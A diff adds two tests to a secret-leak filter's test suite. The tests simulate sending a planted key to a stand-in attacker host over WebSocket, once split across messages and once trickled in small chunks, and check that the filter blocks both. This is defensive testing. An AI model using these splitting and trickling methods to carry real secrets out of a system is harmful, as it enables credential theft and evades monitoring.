@@ -127,6 +127,36 @@ def test_planted_secret_material_never_reaches_the_server(cage, how, way):
     assert blocked[0]["path"] == "/ws" and blocked[0]["method"] == "WEBSOCKET"
 
 
+# ---- (b2) split across messages: the chain sees each message after the tail of the ones before --
+
+def test_key_split_across_messages_never_arrives_whole(cage):
+    c = canary()
+    got = ws(cage, "evil.example.test", text(f"control {c}"),
+             {"type": "text", "file": KEY, "slice": [0, 6]},
+             {"type": "text", "file": KEY, "slice": [6, None]}, text(f"after {c}"))
+    assert got["status"] == 101, got
+    # the harmless start went through; the rest completed the key in the chain's view
+    assert echoes(got)[:2] == [f"control {c}".encode(), LEAKED_KEY[:6].encode()]
+    assert len(got["results"]) == 3 and "closed" in got["results"][2], got
+    assert wait_for(lambda: f"control {c}".encode() in ws_received(cage))
+    assert not cage.net.received(LEAKED_KEY[6:40]) and not cage.net.received(f"after {c}")
+    (blocked,) = [r for r in ws_records(cage, "evil.example.test")
+                  if r["decision"] == "blocked" and "key" in r["reason"].lower()
+                  and r["by"] == "secrets"][-1:]
+    assert blocked["method"] == "WEBSOCKET"
+
+
+def test_random_material_trickled_in_small_messages_is_cut_off(cage):
+    """4 KiB of key material in 64-byte messages, each below every threshold alone: the
+    connection is cut after a few, and most of the material never arrives."""
+    pieces = [{"type": "binary", "file": RND, "slice": [i, i + 64]} for i in range(0, 4096, 64)]
+    got = ws(cage, "evil.example.test", *pieces)
+    assert got["status"] == 101, got
+    assert "closed" in got["results"][-1] and len(got["results"]) < len(pieces), got
+    arrived = sum(len(m) for m in ws_received(cage) if m and m in LEAKED_RANDOM)
+    assert arrived <= 512, f"{arrived} bytes of the material reached the server"
+
+
 # ---- (c) a placeholder: injected toward its inject_to host, blocked elsewhere ------------------
 # ---- (d) and the server's echo of the real value comes back as the placeholder -----------------
 
